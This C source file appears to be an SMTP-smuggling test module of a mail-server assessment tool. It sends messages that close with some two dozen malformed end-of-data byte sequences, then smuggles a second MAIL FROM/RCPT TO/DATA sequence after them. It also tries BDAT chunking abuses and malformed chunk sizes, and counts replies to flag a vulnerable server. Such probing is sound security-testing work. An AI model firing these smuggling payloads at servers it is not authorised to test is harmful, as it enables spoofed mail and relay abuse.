/* SMTP smuggling: bytes inside a message that one host takes for its end and another does not, so that what follows passes
 * for a message of its own. What is sent goes from the target's own postmaster to him; how many answers come tells whether
 * he would get one message or two. */
#include "attack.h"

#include <stdio.h>
#include <string.h>

#define END(name, bytes) { name, bytes, sizeof bytes - 1 }
static const struct { const char *name, *bytes; size_t length; } ends[] = {
	END("LF . LF", "\n.\n"), END("LF . CR LF", "\n.\r\n"), END("CR LF . LF", "\r\n.\n"), END("CR . CR", "\r.\r"),
	END("CR LF . CR", "\r\n.\r"), END("CR . CR LF", "\r.\r\n"), END("LF . CR", "\n.\r"), END("CR . LF", "\r.\n"),
	END("LF LF . CR LF", "\n\n.\r\n"), END("CR CR LF . CR CR LF", "\r\r\n.\r\r\n"), END("CR LF . CR CR LF", "\r\n.\r\r\n"),
	END("CR LF NUL . CR LF", "\r\n\0.\r\n"), END("CR LF . NUL CR LF", "\r\n.\0\r\n"), END("CR NUL LF . CR LF", "\r\0\n.\r\n"),
	END("CR LF . CR NUL LF", "\r\n.\r\0\n"), END("NUL . NUL", "\0.\0"), END("CR LF . blank CR LF", "\r\n. \r\n"),
	END("VT . VT", "\v.\v"), END("FF . FF", "\f.\f"), END("NEL . NEL", "\xc2\x85.\xc2\x85"), END("U+2028 . U+2028", "\xe2\x80\xa8.\xe2\x80\xa8"),
	END("CR LF . . CR LF", "\r\n..\r\n"), END("LF . LF behind a line", "x\n.\n"), END("0x8d 0x8a . 0x8d 0x8a", "\x8d\x8a.\x8d\x8a"),
};
#undef END

static bool begin_message(const struct attack *attack, struct talk *talk, const char *data)
{
	if (!talk_begin(attack, talk) || talk_ask(talk, "MAIL FROM:<postmaster@%s>", attack->domain) != 250 ||
	    talk_ask(talk, "RCPT TO:<postmaster@%s>", attack->domain) / 100 != 2)
		return false;
	return !data || talk_ask(talk, "%s", data) == 354;
}

/* How many answers come before that to QUIT; *SECOND: was a second message taken? */
static unsigned count_answers(struct talk *talk, bool *second)
{
	unsigned count = 0;
	int code;

	*second = false;
	talk_say(talk, "QUIT");
	while (count < 10 && (code = talk_reply(talk, TALK_MS)) > 0 && code != 221) {
		count++;
		*second = *second || code == 354;
	}
	return count;
}

static void try_end(struct attack *attack, size_t row)
{
	char name[80], message[1200];
	struct talk talk;
	bool has_second;
	size_t length;

	snprintf(name, sizeof name, "smuggling: %s", ends[row].name);
	if (!begin_message(attack, &talk, "DATA")) {
		attack_skip(attack, name, "no message could be begun: %s", talk.line);
		talk_close(&talk);
		return;
	}
	length = (size_t)snprintf(message, sizeof message, "From: <postmaster@%s>\r\nSubject: dawk attack: one message, not two\r\n\r\nfirst", attack->domain);
	memcpy(message + length, ends[row].bytes, ends[row].length);
	length += ends[row].length;
	length += (size_t)snprintf(message + length, sizeof message - length, "MAIL FROM:<postmaster@%s>\r\nRCPT TO:<postmaster@%s>\r\nDATA\r\n"
	                           "Subject: dawk attack: smuggled\r\n\r\nsecond\r\n.\r\n", attack->domain, attack->domain);
	talk_send(&talk, message, length);
	unsigned count = count_answers(&talk, &has_second);
	if (has_second || count > 1)
		attack_open(attack, name, "the message ended there: %u answers to one", count);
	else
		attack_held(attack, name, "%s", count ? "one answer" : "hung up");
	talk_close(&talk);
}

/* ---- BDAT (RFC 3030) ---- */

/* What stands in a chunk is content, whatever it looks like. */
static void try_chunk(struct attack *attack, const char *name, const char *content, size_t length)
{
	struct talk talk;
	bool has_second;

	if (!begin_message(attack, &talk, NULL)) {
		attack_skip(attack, name, "no message could be begun: %s", talk.line);
	} else {
		talk_say(&talk, "BDAT %zu LAST", length);
		talk_send(&talk, content, length);
		unsigned count = count_answers(&talk, &has_second);
		if (has_second || count > 1)
			attack_open(attack, name, "content was taken for commands: %u answers to one", count);
		else
			attack_held(attack, name, "%s", talk.is_closed && !count ? "hung up" : "one answer");
	}
	talk_close(&talk);
}

/* A chunk that is refused is still read, RFC 3030 2. */
static void try_refused_chunk(struct attack *attack)
{
	static const char name[] = "smuggling: commands in a BDAT that is refused";
	static const char content[] = "RSET\r\nNOOP\r\nRSET\r\nNOOP\r\n";
	struct talk talk;
	bool has_second;

	if (!talk_begin(attack, &talk)) {
		attack_skip(attack, name, "no session: %s", talk.line);
	} else {
		talk_say(&talk, "BDAT %zu LAST", sizeof content - 1);
		talk_send(&talk, content, sizeof content - 1);
		unsigned count = count_answers(&talk, &has_second);
		count > 1 ? attack_open(attack, name, "its content was taken for commands: %u answers to one", count)
		          : attack_held(attack, name, "%s", count ? "one answer" : "hung up");
	}
	talk_close(&talk);
}

/* DATA may not follow BDAT, nor a chunk the message's end. */
static void try_mix(struct attack *attack)
{
	static const char name[] = "smuggling: DATA behind BDAT";
	struct talk talk;
	int code = 0;

	if (begin_message(attack, &talk, NULL) && talk_say(&talk, "BDAT 5") && talk_send(&talk, "hello", 5) && talk_reply(&talk, TALK_MS) == 250)
		code = talk_ask(&talk, "DATA");
	if (!code)
		attack_skip(attack, name, "no chunk was taken: %s", talk.line);
	else if (code == 354)
		attack_open(attack, name, "%s", talk.line);
	else
		attack_held(attack, name, "%s", talk.line);
	talk_close(&talk);
}

static void try_size(struct attack *attack, const char *size)
{
	char name[80];
	struct talk talk;
	int code;

	snprintf(name, sizeof name, "smuggling: BDAT of %s bytes", size);
	if (!begin_message(attack, &talk, NULL)) {
		attack_skip(attack, name, "no message could be begun: %s", talk.line);
	} else {
		code = talk_ask(&talk, "BDAT %s LAST", size);
		code / 100 == 2 || code < 0 ? attack_open(attack, name, "taken: %s", talk.line) : attack_held(attack, name, "%s", talk.line);
	}
	talk_close(&talk);
}

static void attack_chunks(struct attack *attack)
{
	static const char dot[] = "Subject: dawk attack: one message, not two\r\n\r\nfirst\r\n.\r\nRSET\r\nMAIL FROM:<>\r\n";
	static const char zeros[] = "Subject: dawk attack: one message, not two\r\n\r\nfirst\n.\n\0.\0\r.\rRSET\r\nNOOP\r\n";
	struct talk talk;
	bool has_chunks = talk_begin(attack, &talk) && talk_offers(&talk, "CHUNKING");

	talk_close(&talk);
	if (!has_chunks) {
		attack_skip(attack, "smuggling: BDAT", "CHUNKING is not offered");
		return;
	}
	try_chunk(attack, "smuggling: the end of DATA in a BDAT", dot, sizeof dot - 1);
	try_chunk(attack, "smuggling: bare ends and NUL in a BDAT", zeros, sizeof zeros - 1);
	try_refused_chunk(attack);
	try_mix(attack);
	try_size(attack, "18446744073709551617");
	try_size(attack, "-1");
	try_size(attack, "0x10");
}

/* Said once where none can be sent, as where one has to log in. */
static bool can_begin(struct attack *attack)
{
	struct talk talk;
	bool is_good = begin_message(attack, &talk, NULL);

	if (!is_good)
		attack_skip(attack, "smuggling", "no message could be begun: %s", talk.line);
	talk_close(&talk);
	return is_good;
}

void attack_smuggling(struct attack *attack)
{
	if (!can_begin(attack)) {
		try_refused_chunk(attack);
		return;
	}
	for (size_t i = 0; i < sizeof ends / sizeof *ends; i++)
		try_end(attack, i);
	attack_chunks(attack);
}
